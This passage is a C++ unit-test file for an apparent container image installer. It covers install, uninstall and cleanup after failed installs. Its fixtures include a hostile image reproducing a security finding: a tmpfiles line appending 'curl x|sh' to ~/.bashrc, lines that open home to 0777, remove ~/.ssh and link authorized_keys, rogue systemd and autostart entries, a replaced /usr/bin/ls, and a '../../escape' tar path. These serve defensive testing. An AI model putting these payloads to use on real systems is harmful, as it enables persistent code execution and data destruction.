// install / uninstall / list_installed on real files in a scratch home,
// one test per source kind and per failure that must leave nothing behind.
// The unpack runs in a user namespace as in production (with only the
// caller's id mapped: the scratch user has no subordinate ids).
#include "install/install.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <poll.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <map>
#include <nlohmann/json.hpp>
#include <optional>
#include <set>

#include "core/image/sha256.h"
#include "install/debris.h"
#include "tests/unit/core/image/image_fixtures.h"
#include "tests/unit/install/scratch_home.h"

namespace box::install {
namespace {
using namespace box::testing;
using namespace box::install::testing;
namespace fs = std::filesystem;

InstallOptions with_set(InstallOptions o, const std::string& k, const std::string& v) {
  o.set.emplace_back(k, v);
  return o;
}
InstallOptions replacing(InstallOptions o) {
  o.replace = true;
  return o;
}
InstallOptions cancelled_by(InstallOptions o, const std::atomic<bool>& flag) {
  o.cancel = &flag;
  return o;
}

class Install : public ::testing::Test {
 protected:
  void SetUp() override {
    ctx_ = scratch_home(tmp_.path());
    ctx_.reload = [this]() -> Result<void> {
      ++reloads_;
      return {};
    };
    ctx_.stop_unit = [this](const std::string& unit) -> Result<void> {
      stopped_.push_back(unit);
      return {};
    };
  }

  std::string images() { return ctx_.dirs.data_home + "/box/images"; }
  std::string definition(const std::string& name) {
    return ctx_.dirs.config_home + "/box/containers/" + name + ".yaml";
  }
  std::string rootfs(const std::string& name) { return images() + "/" + name + "/rootfs"; }

  // Nothing installed, nothing staged: what a failed install must leave.
  void expect_nothing_left(const std::string& name) {
    EXPECT_FALSE(fs::exists(definition(name)));
    std::error_code ec;
    std::vector<std::string> left;
    for (const auto& e : fs::directory_iterator(images(), ec)) left.push_back(e.path().filename());
    EXPECT_TRUE(left.empty()) << "left in images/: " << left.front();
    for (const auto& e : fs::directory_iterator(ctx_.dirs.config_home + "/box/containers", ec))
      ADD_FAILURE() << "left in containers/: " << e.path();
  }

  // Every path under the scratch home and runtime dir (where everything an
  // install writes goes: images, definitions, state and runtime dirs,
  // user-tmpfiles.d, ~/.local/bin), with what it is: a file with its
  // content, a symlink with its target.
  std::map<std::string, std::string> tree() {
    std::map<std::string, std::string> out;
    for (const std::string& top : {ctx_.dirs.home, ctx_.dirs.runtime_dir}) {
      out[top] = "directory";
      std::error_code ec;
      for (auto it = fs::recursive_directory_iterator(top, ec); !ec && it != fs::end(it);
           it.increment(ec)) {
        const std::string path = it->path();
        if (it->is_symlink())
          out[path] = "symlink to " + fs::read_symlink(path).string();
        else if (it->is_directory())
          out[path] = "directory";
        else if (it->is_regular_file())
          out[path] = "file: " + read_bytes(path);
        else
          out[path] = "special file";
      }
      if (ec) ADD_FAILURE() << "cannot list " << top << ": " << ec.message();
    }
    return out;
  }

  // The tree before an install that is to fail. The images and definitions
  // dirs are made first, as any install leaves them (empty, they belong to
  // no image).
  std::map<std::string, std::string> tree_before() {
    fs::create_directories(images());
    fs::create_directories(ctx_.dirs.config_home + "/box/containers");
    return tree();
  }

  // What a failed install must leave: the tree as it was before.
  void expect_unchanged(const std::map<std::string, std::string>& before) {
    const auto after = tree();
    for (const auto& [path, what] : after) {
      auto was = before.find(path);
      if (was == before.end())
        ADD_FAILURE() << "left behind: " << path << " (" << what.substr(0, 60) << ")";
      else if (was->second != what)
        ADD_FAILURE() << "changed: " << path;
    }
    for (const auto& [path, what] : before)
      if (!after.count(path)) ADD_FAILURE() << "removed: " << path;
  }

  // An image whose install writes to every place an install may: the image
  // dir and the definition, a data dir in state/ (from tmpfiles.template
  // and as a bind's source), a runtime dir, a user-tmpfiles.d file and, with
  // the consent of everywhere_options(), a program in ~/.local/bin. The
  // exports are in its second, last layer.
  ImageSpec writes_everywhere_spec() {
    ImageSpec spec;
    spec.layers = {busybox_layer(),
                   make_tar({dir("exports"),
                             file("exports/config.json.template",
                                  R"({"process":{"args":["/bin/sh"]},"root":{"path":"rootfs"},
                           "mounts":[{"destination":"/var/lib/app","type":"bind",
                                      "source":"$STATE_DIRECTORY/$NAME/db","options":["rbind"]}],
                           "linux":{"namespaces":[{"type":"pid"},{"type":"ipc"},
                                                  {"type":"mount"}]}})"),
                             file("exports/tmpfiles.template",
                                  "d $STATE_DIRECTORY/$NAME 0700 $HOST_UID $HOST_GID - -\n"
                                  "d $RUN_DIRECTORY/$NAME - - - - -\n"),
                             file("exports/hostfs/usr/local/bin/appctl", "#!/bin/sh\n", 0755)})};
    return spec;
  }
  std::string everywhere_tool() { return ctx_.dirs.home + "/.local/bin/appctl"; }
  InstallOptions everywhere_options() {
    InstallOptions o = named("app");
    o.allow_host_files = {everywhere_tool()};
    return o;
  }

  std::string busybox_layer() {
    return make_tar({dir("bin"), file("bin/sh", "#!fake shell\n", 0755), dir("etc"),
                     file("etc/passwd", "root:x:0:0::/root:/bin/sh\nsvc:x:42:43::/:/bin/sh\n"),
                     file("etc/group", "root:x:0:\nsvc:x:43:\n")});
  }

  ImageSpec two_layer_spec() {
    ImageSpec spec;
    spec.layers = {busybox_layer(),
                   make_tar({file("etc/.wh.group", ""), file("srv/app", "v2", 0755)})};
    spec.config["config"] = {{"Entrypoint", {"/srv/app"}},
                             {"Cmd", {"--serve"}},
                             {"Env", {"PATH=/bin", "MODE=prod"}},
                             {"WorkingDir", "/srv"},
                             {"User", "svc"},
                             {"ExposedPorts", {{"8080/tcp", nlohmann::json::object()}}},
                             {"Labels", {{"org.opencontainers.image.description", "demo app"}}}};
    return spec;
  }

  // An image whose /exports holds `exports` (file name -> text) and the
  // entries `extra`, with a /bin/sh to run.
  void make_atomic_image(const std::map<std::string, std::string>& exports,
                         std::vector<TarEntry> extra = {}) {
    std::vector<TarEntry> entries = {dir("bin"), file("bin/sh", "sh", 0755), dir("exports")};
    bool config = false;
    for (const auto& [name, text] : exports) {
      entries.push_back(file("exports/" + name, text));
      config = config || name == "config.json.template";
    }
    if (!config)
      entries.push_back(file("exports/config.json.template",
                             R"({"process":{"args":["/bin/sh"]},"linux":{"namespaces":[
                                 {"type":"pid"},{"type":"ipc"},{"type":"mount"}]}})"));
    entries.insert(entries.end(), extra.begin(), extra.end());
    ImageSpec spec;
    spec.layers = {make_tar(entries)};
    make_oci_layout(tmp_ / "layout", spec);
  }

  static std::string config_with_bind(const std::string& source, const std::string& mode) {
    return R"({"process":{"args":["/bin/sh"]},"mounts":[{"destination":"/data","type":"bind",
        "source":")" + source + R"(","options":["rbind",")" + mode + R"("]}],
        "linux":{"namespaces":[{"type":"pid"},{"type":"ipc"},{"type":"mount"}]}})";
  }

  // Finding 4 of issue 12, as reproduced.
  std::map<std::string, std::string> hostile_exports() {
    return {{"tmpfiles.template", "w+ %h/.bashrc - - - - curl x|sh\n"
                                  "Z %h 0777\n"
                                  "R " + ctx_.dirs.home + "/.ssh\n"
                                  "L+ " + ctx_.dirs.home +
                                      "/.ssh/authorized_keys - - - - /tmp/k\n"},
            {"config.json.template", config_with_bind("/", "rw")},
            {"service.template", "[Install]\nWantedBy=default.target\n"}};
  }
  static std::vector<TarEntry> hostile_hostfs() {
    return {file("exports/hostfs/etc/systemd/user/x.service", "[Service]\nExecStart=/bin/evil\n"),
            symlink("exports/hostfs/etc/systemd/user/default.target.wants/x.service",
                    "../x.service"),
            file("exports/hostfs/etc/autostart/x.desktop", "[Desktop Entry]\nExec=/bin/evil\n"),
            file("exports/hostfs/etc/box/containers/evil.yaml", "rootfs: /\ncommand: [sh]\n"),
            file("exports/hostfs/usr/bin/ls", "#!/bin/sh\nevil\n", 0755),
            TarEntry{TarEntry::kFifo, "exports/hostfs/usr/share/x/fifo", "", 0644, 0, 0}};
  }

  TempDir tmp_;
  InstallContext ctx_;
  int reloads_ = 0;
  std::vector<std::string> stopped_;
};

TEST_F(Install, OciLayoutTakesDefaultsFromTheImageConfig) {
  auto built = make_oci_layout(tmp_ / "layout", two_layer_spec());
  std::vector<Progress> progress;
  auto r = install(ctx_, "oci:" + (tmp_ / "layout") + ":latest", named("app"),
                   [&](const Progress& p) { progress.push_back(p); });
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(r->digest, built.manifest_digest);
  EXPECT_EQ(r->source_kind, "oci");
  EXPECT_EQ(r->layers, 2u);
  EXPECT_FALSE(r->owners_kept);
  EXPECT_EQ(read_bytes(rootfs("app") + "/srv/app"), "v2");
  EXPECT_TRUE(fs::exists(rootfs("app") + "/etc/passwd"));
  EXPECT_FALSE(fs::exists(rootfs("app") + "/etc/group"));  // whited out by layer 2
  EXPECT_EQ(reloads_, 1);
  ASSERT_FALSE(progress.empty());
  EXPECT_EQ(progress.back().phase, Progress::Phase::kFinishing);

  std::string def = read_bytes(definition("app"));
  EXPECT_NE(def.find("image: \"app\""), std::string::npos) << def;
  EXPECT_NE(def.find("command: [\"/srv/app\", \"--serve\"]"), std::string::npos) << def;
  EXPECT_NE(def.find("MODE: \"prod\""), std::string::npos) << def;
  EXPECT_NE(def.find("workdir: \"/srv\""), std::string::npos) << def;
  EXPECT_NE(def.find("user: \"42:43\""), std::string::npos) << def;  // svc from /etc/passwd
  EXPECT_NE(def.find("description: \"demo app\""), std::string::npos) << def;
  EXPECT_NE(def.find(built.manifest_digest), std::string::npos) << def;

  auto list = list_installed(ctx_);
  ASSERT_TRUE(list.ok());
  ASSERT_EQ(list->size(), 1u);
  EXPECT_EQ((*list)[0].name, "app");
  EXPECT_EQ((*list)[0].source, "oci:" + (tmp_ / "layout") + ":latest");
  EXPECT_EQ((*list)[0].digest, built.manifest_digest);
  EXPECT_EQ((*list)[0].exposed_ports, std::vector<std::string>{"8080/tcp"});
  // The config as it was, for `boxctl play kube`; a tag alone names no image.
  EXPECT_TRUE((*list)[0].config_recorded);
  EXPECT_EQ((*list)[0].entrypoint, std::vector<std::string>{"/srv/app"});
  EXPECT_EQ((*list)[0].cmd, std::vector<std::string>{"--serve"});
  EXPECT_EQ((*list)[0].env, (std::vector<std::string>{"PATH=/bin", "MODE=prod"}));
  EXPECT_EQ((*list)[0].working_dir, "/srv");
  EXPECT_EQ((*list)[0].user, "42:43");
  EXPECT_EQ((*list)[0].reference, "");
}

// podman save writes the whole reference as the ref name: recorded.
TEST_F(Install, AnArchivesWholeRefNameIsItsReference) {
  auto spec = two_layer_spec();
  spec.tag = "localhost/app:test";
  make_oci_layout(tmp_ / "layout", spec);
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(r->reference, "localhost/app:test");
}

TEST_F(Install, OciArchiveAndTheNameFromTheFile) {
  make_oci_layout(tmp_ / "layout", two_layer_spec());
  tar_directory(tmp_ / "layout", tmp_ / "demo.tar");
  auto r = install(ctx_, "oci-archive:" + (tmp_ / "demo.tar"), {}, nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(r->name, "demo");
  EXPECT_EQ(read_bytes(rootfs("demo") + "/srv/app"), "v2");
}

TEST_F(Install, DockerArchive) {
  std::string layer = make_tar({dir("bin"), file("bin/hello", "hi", 0755)}, false);
  make_docker_archive(
      tmp_ / "app.tar", {layer},
      {{"architecture", "amd64"}, {"os", "linux"}, {"config", {{"Cmd", {"/bin/hello"}}}}});
  auto r = install(ctx_, "docker-archive:" + (tmp_ / "app.tar"), {}, nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(r->source_kind, "docker-archive");
  EXPECT_EQ(read_bytes(rootfs("app") + "/bin/hello"), "hi");
  EXPECT_TRUE(image::is_valid_sha256_digest(r->digest));
}

TEST_F(Install, NativeBundle) {
  const std::string b = tmp_ / "bundle";
  fs::create_directories(b + "/rootfs/bin");
  write_bytes(b + "/rootfs/bin/tool", "tool");
  fs::create_symlink("tool", b + "/rootfs/bin/alias");
  write_bytes(b + "/box.yaml",
              "description: from a bundle\nrootfs: ./ignored\ncommand: [/bin/tool]\n"
              "env: {A: b}\n");
  auto r = install(ctx_, b, named("native"), nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(r->source_kind, "bundle");
  EXPECT_EQ(read_bytes(rootfs("native") + "/bin/tool"), "tool");
  EXPECT_TRUE(fs::is_symlink(rootfs("native") + "/bin/alias"));
  std::string def = read_bytes(definition("native"));
  EXPECT_NE(def.find("image: native"), std::string::npos) << def;
  EXPECT_EQ(def.find("ignored"), std::string::npos) << def;
  EXPECT_NE(def.find("description: from a bundle"), std::string::npos) << def;
}

TEST_F(Install, OciRuntimeBundle) {
  const std::string b = tmp_ / "ocib";
  fs::create_directories(b + "/rootfs/bin");
  write_bytes(b + "/rootfs/bin/sh", "sh");
  write_bytes(b + "/config.json",
              R"({"ociVersion":"1.0.2","process":{"args":["/bin/sh","-c","echo hi"],
      "env":["PATH=/bin"],"cwd":"/","terminal":true},"root":{"path":"rootfs","readonly":true},
      "hostname":"ocib","linux":{"namespaces":[{"type":"pid"},{"type":"mount"},{"type":"uts"},
      {"type":"ipc"},{"type":"cgroup"}]}})");
  auto r = install(ctx_, b, {}, nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(r->name, "ocib");
  EXPECT_EQ(r->source_kind, "oci-bundle");
  std::string def = read_bytes(definition("ocib"));
  EXPECT_NE(def.find("command: [\"/bin/sh\", \"-c\", \"echo hi\"]"), std::string::npos) << def;
  EXPECT_NE(def.find("rootfs_writes: \"readonly\""), std::string::npos) << def;
  bool reported = false;
  for (const auto& w : r->warnings) reported |= w.find("process.terminal") != std::string::npos;
  EXPECT_TRUE(reported);
}

// A bundle of `runc spec --rootless` around a root whose /sbin/init is
// systemd, as Debian links it (/sbin -> usr/sbin, init -> /lib/systemd/
// systemd, /lib -> usr/lib): installed as a systemd container; where it is
// busybox, as a plain one, with a note.
TEST_F(Install, ARuncBundleWhoseInitIsSystemd) {
  for (const std::string init : {"/lib/systemd/systemd", "/bin/busybox"}) {
    const std::string b = tmp_ / "sysb";
    fs::remove_all(b);
    for (const char* d : {"rootfs/usr/sbin", "rootfs/usr/lib/systemd", "rootfs/usr/bin"})
      fs::create_directories(b + "/" + d);
    for (const char* l : {"sbin", "lib", "bin"})
      fs::create_symlink(std::string("usr/") + l, b + "/rootfs/" + l);
    write_bytes(b + "/rootfs/usr/lib/systemd/systemd", "systemd");
    write_bytes(b + "/rootfs/usr/bin/busybox", "busybox");
    fs::create_symlink(init, b + "/rootfs/usr/sbin/init");
    const std::string spec = "cd '" + b +
                             "' && runc spec --rootless && python3 -c \"import json; "
                             "c = json.load(open('config.json')); c['process']['args'] = "
                             "['/sbin/init']; json.dump(c, open('config.json', 'w'))\"";
    ASSERT_EQ(std::system(spec.c_str()), 0) << spec;
    auto r = install(ctx_, b, named("sysb"), nullptr);
    ASSERT_TRUE(r.ok()) << r.error().message();
    const std::string def = read_bytes(definition("sysb"));
    bool noted = false;
    if (init == "/lib/systemd/systemd") {
      EXPECT_NE(def.find("init: \"systemd\""), std::string::npos) << def;
      EXPECT_EQ(def.find("cgroup: host"), std::string::npos) << def;
      EXPECT_EQ(def.find("capabilities"), std::string::npos) << def;
      for (const auto& w : r->warnings)
        noted |= w.find("init: systemd gets one") != std::string::npos;
    } else {
      EXPECT_EQ(def.find("init:"), std::string::npos) << def;
      for (const auto& w : r->warnings)
        noted |= w.find("'/sbin/init' is not systemd (it leads to 'busybox')") != std::string::npos;
    }
    EXPECT_TRUE(noted) << init;
    ASSERT_TRUE(uninstall(ctx_, "sysb", false).ok());
  }
}

TEST_F(Install, AtomicExports) {
  ImageSpec spec;
  std::string config_template = R"({"ociVersion":"1.0.0","process":{"args":["/bin/sh","-c",
      "serve --port $PORT --name $NAME"],"env":["PATH=/bin","GREETING=$GREETING"],"cwd":"/"},
      "root":{"path":"rootfs","readonly":true},
      "mounts":[{"destination":"/var/lib/app","type":"bind","source":"$STATE_DIRECTORY/$NAME",
                 "options":["rbind","rw"]}],
      "linux":{"namespaces":[{"type":"pid"},{"type":"mount"},{"type":"ipc"},{"type":"uts"},
                             {"type":"cgroup"}]}})";
  spec.layers = {
      make_tar({dir("bin"), file("bin/sh", "sh", 0755), dir("exports"),
                file("exports/config.json.template", config_template),
                file("exports/manifest.json",
                     R"({"version":"1.0","defaultValues":{"PORT":"1","GREETING":"hello"},
                "renameFiles":{"/usr/local/bin/appctl":"/usr/local/bin/appctl-$NAME"}})"),
                file("exports/service.template",
                     "[Unit]\nDescription=App $NAME on $PORT\n[Service]\nExecStart=$EXEC_START\n"
                     "ExecStop=$EXEC_STOP\nRestart=on-failure\nWorkingDirectory=$DESTDIR\n"),
                file("exports/tmpfiles.template",
                     "d $STATE_DIRECTORY/$NAME 0700 $HOST_UID $HOST_GID - -\n"
                     "d $RUN_DIRECTORY/$NAME - - - - -\n"),
                file("exports/hostfs/usr/local/bin/appctl", "#!/bin/sh\n", 0755)})};
  make_oci_layout(tmp_ / "layout", spec);
  const std::string tool = ctx_.dirs.home + "/.local/bin/appctl-app";
  // ~/.local/bin is on PATH: the tool goes there only with consent.
  auto refused =
      install(ctx_, "oci:" + (tmp_ / "layout"), with_set(named("app"), "PORT", "2"), nullptr);
  ASSERT_FALSE(refused.ok());
  EXPECT_NE(refused.error().message().find("add --allow-host-file " + tool), std::string::npos)
      << refused.error().message();
  expect_nothing_left("app");
  InstallOptions o = with_set(named("app"), "PORT", "2");
  o.allow_host_files = {tool};
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_TRUE(r->atomic_exports);
  std::string def = read_bytes(definition("app"));
  EXPECT_NE(def.find("serve --port 2 --name app"), std::string::npos) << def;  // --set wins
  EXPECT_NE(def.find("GREETING: \"hello\""), std::string::npos) << def;        // manifest default
  EXPECT_NE(def.find("description: \"App app on 2\""), std::string::npos) << def;
  EXPECT_NE(def.find("restart: \"on-failure\""), std::string::npos) << def;
  const std::string state = ctx_.dirs.data_home + "/box/state/app";
  EXPECT_NE(def.find("source: \"" + state + "\""), std::string::npos) << def;
  EXPECT_TRUE(fs::is_directory(state));
  EXPECT_EQ(fs::status(state).permissions() & fs::perms::all, fs::perms::owner_all);
  const std::string run = ctx_.dirs.runtime_dir + "/box/run/app";
  EXPECT_TRUE(fs::is_directory(run));
  EXPECT_EQ(r->data_dirs, std::vector<std::string>{state});
  EXPECT_EQ(read_bytes(tool), "#!/bin/sh\n");
  // Each thing made is recorded with its inode.
  std::vector<std::string> created;
  for (const auto& c : r->created) {
    created.push_back(c.kind + " " + c.path);
    struct stat st;
    ASSERT_EQ(lstat(c.path.c_str(), &st), 0) << c.path;
    EXPECT_EQ(c.dev, st.st_dev);
    EXPECT_EQ(c.ino, st.st_ino);
  }
  EXPECT_EQ(created, (std::vector<std::string>{
                         "data " + state, "runtime " + run,
                         "tmpfiles " + ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf",
                         "host-file " + tool}));
  EXPECT_EQ(read_bytes(ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf"),
            "# Installed by boxctl install for box@app; removed by boxctl uninstall.\n"
            "d " + state + " 0700 " + std::to_string(getuid()) + " " + std::to_string(getgid()) +
                " -\n"
                "d " + run + " - - - -\n");
  EXPECT_EQ(r->host_files, std::vector<std::string>{tool});
  EXPECT_TRUE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf"));

  // Uninstall keeps the data dir, removes the rest.
  write_bytes(state + "/db", "precious");
  ASSERT_TRUE(uninstall(ctx_, "app", false).ok());
  EXPECT_EQ(stopped_, std::vector<std::string>{"box@app.service"});
  EXPECT_EQ(read_bytes(state + "/db"), "precious");
  EXPECT_FALSE(fs::exists(tool));
  EXPECT_FALSE(fs::exists(run));
  EXPECT_FALSE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf"));
  expect_nothing_left("app");

  // Reinstalled (the data dir exists: not recorded again) and purged: the
  // data goes too, as the box's own state dir.
  ASSERT_TRUE(install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr).ok());
  ASSERT_TRUE(uninstall(ctx_, "app", true).ok());
  EXPECT_FALSE(fs::exists(state));
}

TEST_F(Install, AnUnreplacedTemplateVariableFailsAndNamesIt) {
  ImageSpec spec;
  spec.layers = {make_tar({dir("exports"), file("exports/config.json.template",
                                                R"({"process":{"args":["x","$MISSING"]}})")})};
  make_oci_layout(tmp_ / "layout", spec);
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message().find("unreplaced variable $MISSING"), std::string::npos)
      << r.error().message();
  expect_nothing_left("app");
}

TEST_F(Install, ReplaceIsRequiredToInstallOverAName) {
  make_oci_layout(tmp_ / "layout", two_layer_spec());
  const std::string src = "oci:" + (tmp_ / "layout");
  ASSERT_TRUE(install(ctx_, src, named("app"), nullptr).ok());
  auto again = install(ctx_, src, named("app"), nullptr);
  ASSERT_FALSE(again.ok());
  EXPECT_NE(again.error().message().find("--replace"), std::string::npos);
  write_bytes(rootfs("app") + "/marker", "old");
  EXPECT_TRUE(stopped_.empty());
  auto replaced = install(ctx_, src, replacing(named("app")), nullptr);
  ASSERT_TRUE(replaced.ok()) << replaced.error().message();
  // Its container was stopped before its files went.
  EXPECT_EQ(stopped_, std::vector<std::string>{"box@app.service"});
  EXPECT_FALSE(fs::exists(rootfs("app") + "/marker"));
  std::vector<std::string> entries;
  for (const auto& e : fs::directory_iterator(images())) entries.push_back(e.path().filename());
  EXPECT_EQ(entries, std::vector<std::string>{"app"});

  // A hand-written definition of that name is not overwritten either.
  write_bytes(definition("mine"), "rootfs: /x\ncommand: [sh]\n");
  auto clash = install(ctx_, src, named("mine"), nullptr);
  ASSERT_FALSE(clash.ok());
  EXPECT_NE(clash.error().message().find("a definition named 'mine' exists"), std::string::npos);
  EXPECT_EQ(read_bytes(definition("mine")), "rootfs: /x\ncommand: [sh]\n");
}

TEST_F(Install, DigestMismatchLeavesNothingBehind) {
  auto built = make_oci_layout(tmp_ / "layout", writes_everywhere_spec());
  // Tamper with layer 2 (the exports) after the manifest was written.
  std::string blob = tmp_ / ("layout/blobs/sha256/" + built.layer_digests[1].substr(7));
  write_bytes(blob, make_tar({file("exports/hostfs/usr/local/bin/appctl", "evil", 0755)}));
  const auto before = tree_before();
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), everywhere_options(), nullptr);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message().find("layer 2/2"), std::string::npos) << r.error().message();
  EXPECT_NE(r.error().message().find("mismatch"), std::string::npos) << r.error().message();
  expect_unchanged(before);
  EXPECT_EQ(reloads_, 0);
}

TEST_F(Install, CorruptArchiveLeavesNothingBehind) {
  make_oci_layout(tmp_ / "layout", writes_everywhere_spec());
  tar_directory(tmp_ / "layout", tmp_ / "app.tar");
  std::string bytes = read_bytes(tmp_ / "app.tar");
  const auto before = tree_before();
  for (std::size_t cut : {bytes.size() / 3, bytes.size() * 2 / 3}) {
    write_bytes(tmp_ / "app.tar", bytes.substr(0, cut));
    auto r = install(ctx_, "oci-archive:" + (tmp_ / "app.tar"), everywhere_options(), nullptr);
    ASSERT_FALSE(r.ok()) << "cut at " << cut << " of " << bytes.size();
    expect_unchanged(before);
  }

  write_bytes(tmp_ / "junk.tar", std::string(10000, 'j'));
  auto junk = install(ctx_, "oci-archive:" + (tmp_ / "junk.tar"), {}, nullptr);
  ASSERT_FALSE(junk.ok());
  EXPECT_NE(junk.error().message().find("junk.tar"), std::string::npos) << junk.error().message();
  expect_unchanged(before);
  EXPECT_EQ(reloads_, 0);
}

TEST_F(Install, HostileLayerIsRefused) {
  ImageSpec spec;
  spec.layers = {make_tar({file("ok", "1"), file("../../escape", "evil")})};
  make_oci_layout(tmp_ / "layout", spec);
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message().find("'..'"), std::string::npos) << r.error().message();
  EXPECT_FALSE(fs::exists(ctx_.dirs.data_home + "/box/escape"));
  expect_nothing_left("app");
}

// Cancelled while a layer unpacks, and once everything outside the staging
// dir was written (the host side comes after the last progress report): the
// tree is as it was. The same install, not cancelled, writes in every place
// the check looks.
TEST_F(Install, CancelledInstallLeavesNothingBehind) {
  ImageSpec spec = writes_everywhere_spec();
  std::string big;
  for (int i = 0; i < 64; ++i) big += std::to_string(i * 7919) + std::string(4000, 'a' + i % 26);
  std::vector<TarEntry> many;
  for (int i = 0; i < 300; ++i) many.push_back(file("data/f" + std::to_string(i), big));
  spec.layers.push_back(make_tar(many));
  make_oci_layout(tmp_ / "layout", spec);
  const std::string source = "oci:" + (tmp_ / "layout");
  const auto before = tree_before();
  for (bool at_the_end : {false, true}) {
    SCOPED_TRACE(at_the_end ? "cancelled after the last progress report" : "cancelled in layer 3");
    std::atomic<bool> cancel{false};
    auto r =
        install(ctx_, source, cancelled_by(everywhere_options(), cancel), [&](const Progress& p) {
          if (at_the_end ? p.phase == Progress::Phase::kFinishing : p.layer == 3 && p.bytes > 0)
            cancel = true;
        });
    ASSERT_FALSE(r.ok());
    EXPECT_NE(r.error().message().find("cancelled"), std::string::npos) << r.error().message();
    expect_unchanged(before);
  }
  EXPECT_EQ(reloads_, 0);

  auto done = install(ctx_, source, everywhere_options(), nullptr);
  ASSERT_TRUE(done.ok()) << done.error().message();
  for (const std::string& made :
       {definition("app"), rootfs("app") + "/data/f299", ctx_.dirs.data_home + "/box/state/app/db",
        ctx_.dirs.runtime_dir + "/box/run/app",
        ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf", everywhere_tool()})
    EXPECT_TRUE(fs::exists(made)) << made;
}

// Replacing stops the old container first, which may take its whole stop
// timeout; a cancel that comes meanwhile leaves the old install as it was.
TEST_F(Install, CancelledWhileTheOldContainerStopsKeepsTheOldImage) {
  make_oci_layout(tmp_ / "layout", two_layer_spec());
  const std::string src = "oci:" + (tmp_ / "layout");
  ASSERT_TRUE(install(ctx_, src, named("app"), nullptr).ok());
  write_bytes(rootfs("app") + "/marker", "old");
  const std::string old_definition = read_bytes(definition("app"));
  std::atomic<bool> cancel{false};
  ctx_.stop_unit = [&](const std::string& unit) -> Result<void> {
    stopped_.push_back(unit);
    cancel = true;  // ^C while systemd stopped it
    return {};
  };
  auto r = install(ctx_, src, cancelled_by(replacing(named("app")), cancel), nullptr);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message().find("cancelled (box@app.service was stopped; its image is "
                                     "unchanged)"),
            std::string::npos)
      << r.error().message();
  EXPECT_EQ(stopped_, std::vector<std::string>{"box@app.service"});
  EXPECT_EQ(read_bytes(rootfs("app") + "/marker"), "old");
  EXPECT_EQ(read_bytes(definition("app")), old_definition);
  std::vector<std::string> entries;
  for (const auto& e : fs::directory_iterator(images())) entries.push_back(e.path().filename());
  EXPECT_EQ(entries, std::vector<std::string>{"app"});
}

// A process killed in the middle (no chance to clean up) leaves its staging
// dir; the next install sees its PID is gone and removes it.
TEST_F(Install, DebrisOfAKilledInstallIsRemovedByTheNext) {
  make_oci_layout(tmp_ / "layout", two_layer_spec());
  pid_t child = fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    (void)install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), [](const Progress& p) {
      if (p.phase == Progress::Phase::kUnpacking) raise(SIGKILL);
    });
    _exit(0);
  }
  int status = 0;
  waitpid(child, &status, 0);
  ASSERT_TRUE(WIFSIGNALED(status));
  std::vector<std::string> debris;
  for (const auto& e : fs::directory_iterator(images())) debris.push_back(e.path().filename());
  ASSERT_EQ(debris.size(), 1u);
  EXPECT_EQ(debris[0].rfind(".staging-app-" + std::to_string(child) + "-", 0), 0u) << debris[0];
  EXPECT_FALSE(fs::exists(definition("app")));

  ASSERT_TRUE(install(ctx_, "oci:" + (tmp_ / "layout"), named("other"), nullptr).ok());
  std::vector<std::string> after;
  for (const auto& e : fs::directory_iterator(images())) after.push_back(e.path().filename());
  EXPECT_EQ(after, std::vector<std::string>{"other"});
}

TEST_F(Install, ExportsAreReadInsideTheImageOnly) {
  // An image whose /exports points at a directory of the host: what is
  // there must not become the definition.
  const std::string host = tmp_ / "host-exports";
  write_bytes(host + "/config.json.template",
              R"({"process":{"args":["/bin/sh","-c","cat /host/secret"]}})");
  ImageSpec spec = two_layer_spec();
  spec.layers.push_back(make_tar({symlink("exports", host)}));
  make_oci_layout(tmp_ / "layout", spec);
  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_FALSE(r->atomic_exports);
  EXPECT_EQ(read_bytes(definition("app")).find("secret"), std::string::npos);
}

TEST_F(Install, NamesArePlain) {
  make_oci_layout(tmp_ / "layout", two_layer_spec());
  auto r = install(ctx_, "oci:" + (tmp_ / "layout") + ":latest", named("web@blue"), nullptr);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().message(),
            "install name 'web@blue' cannot contain '@' (NAME@INSTANCE names an instance of a "
            "container template, nothing else)");
  expect_nothing_left("web@blue");
  auto u = uninstall(ctx_, "web@blue", false);
  ASSERT_FALSE(u.ok());
  EXPECT_NE(u.error().message().find("cannot contain '@'"), std::string::npos)
      << u.error().message();
}

TEST_F(Install, UninstallOfUnknownNames) {
  auto r = uninstall(ctx_, "ghost", false);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().message(), "no installed image named 'ghost'");
  write_bytes(definition("handmade"), "rootfs: /x\ncommand: [sh]\n");
  auto h = uninstall(ctx_, "handmade", false);
  ASSERT_FALSE(h.ok());
